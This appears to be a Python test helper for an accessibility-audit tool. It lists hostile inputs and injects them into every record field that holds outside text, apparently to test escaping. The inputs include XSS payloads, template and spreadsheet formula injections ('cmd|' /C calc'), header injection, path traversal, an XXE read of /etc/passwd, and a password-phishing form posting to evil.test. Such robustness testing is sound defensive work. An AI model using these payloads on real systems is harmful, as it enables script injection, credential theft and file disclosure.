"""What hostile pages write, and records that hold it wherever a record holds text from outside."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from dataclasses import fields, is_dataclass, replace
from typing import Any

from results.model import (
    AccessibilityStatement,
    Barrier,
    Finding,
    FoundPage,
    GroupShare,
    LeftPage,
    PageAudit,
    PublishedFigure,
    ReviewedException,
    Site,
    SiteDiscovery,
)

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '" autofocus onfocus=alert(1) x="',
    "' style='position:fixed;inset:0;z-index:9;background:red' x='",
    "<style>*{display:none!important}</style>",
    "</style></title></textarea></script></template><script>alert(1)</script>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<base href=//evil.test/><link rel=stylesheet href=//evil.test/x.css>",
    '<meta http-equiv=refresh content="0;url=//evil.test/">',
    "<form action=//evil.test/><input name=password type=password><button>Sign in</button></form>",
    '<a href="javascript:alert(1)">click</a>',
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script><![CDATA[",
    "<math><mtext></p></mtext><mglyph><svg><mtext><style><img src onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x onerror=alert(1)&#x3e;",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %> %s %(x)s %n {0} {x}",
    '\\" \\u003cscript\\u003e \\x3cscript\\x3e `${alert(1)}`',
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "a\r\nBcc: all@evil.test\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "a\nSubject: other\n\n.\nQUIT",
    '=HYPERLINK("http://evil.test/","log in")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1;=2+3,\t=4",
    "\tx=cmd|' /C calc'!A0",
    '"\r\n"evil","row","=1+1"\r\n',
    "\u202egnp.exe\u2066 accessible\u2069",
    "\u200f\u200e\u061cmet\u2067",
    "a\x00b\x08c\x1b[2J\x1b]0;owned\x07d\x7fe\x85f\u2028g\u2029h\ufeff\ufffe",
    "\ud800 lone \udfff",
    "Z\u0351\u036b\u0343" * 40,
    "x" * 4000,
    "https://evil.test/" + "a/" * 900,
    "\N{ZERO WIDTH SPACE}\N{SOFT HYPHEN}\N{WORD JOINER}\N{NO-BREAK SPACE}" * 50,
    "\n" * 200 + "\t" * 200 + "end",
    "](javascript:alert(1)) **bold** <http://evil.test>",
    "../../../etc/passwd %2e%2e%2f CON .htaccess",
    '{"@context": "http://evil.test/", "__proto__": {"x": 1}}',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
)

HARMLESS = "harmless"

_ADDRESS = {"url", "final_url", "found_on", "translation_of", "page", "to"}
_OUTSIDE: Mapping[type, frozenset[str]] = {
    Site: frozenset({"url", "name", "organisation", "policy_domain", "level", "country", "language", "tags"}),
    Finding: frozenset({"selector", "snippet", "message", "measured"}),
    PageAudit: frozenset({"url", "detail", "final_url", "title", "language", "parts_not_tested"}),
    FoundPage: frozenset({"title", "link_texts", "found_on"}),
    SiteDiscovery: frozenset({"detail", "final_url"}),
    AccessibilityStatement: frozenset({"url", "language", "evidence", "standard"}),
    Barrier: frozenset({"page", "third_party"}),
    LeftPage: frozenset({"url", "target"}),
    ReviewedException: frozenset({"site", "page", "reason", "author", "removed_by"}),
    PublishedFigure: frozenset({"population", "source", "method"}),
    GroupShare: frozenset({"name"}),
}
"""Fields whose text anyone may write: a page, or a list of websites."""


def poisoned(record: Any, payload: str) -> Any:
    """The record, and all in it, with the payload in each text from outside that is not empty.

    Equal texts stay equal and others different: what points to each other still does.
    """
    if isinstance(record, tuple | list):
        return type(record)(poisoned(one, payload) for one in record)
    if isinstance(record, Mapping):
        return {key: poisoned(value, payload) for key, value in record.items()}
    if not is_dataclass(record) or isinstance(record, type):
        return record
    outside = _OUTSIDE.get(type(record), frozenset())
    changed = {
        field.name: _text(getattr(record, field.name), _put(record, field.name, payload))
        if field.name in outside
        else poisoned(getattr(record, field.name), payload)
        for field in fields(record)
    }
    return replace(record, **changed)


def _put(record: Any, name: str, payload: str) -> Callable[[str], str]:
    if name in _ADDRESS or (name == "site" and isinstance(record, ReviewedException)):
        return lambda text: f"{text}?{payload}"
    if name == "language":
        return lambda text: f"{text}-{payload}"
    if name == "measured":
        return lambda text: (
            json.dumps({"related": payload, payload: [payload]}) if text.startswith("{") else text + payload
        )
    return lambda text: f"{payload}{text}"


def _text(value: Any, put: Callable[[str], str]) -> Any:
    if isinstance(value, str):
        return put(value) if value else value
    if isinstance(value, Mapping):
        return {put(key): put(text) for key, text in value.items()}
    return type(value)(put(text) for text in value)
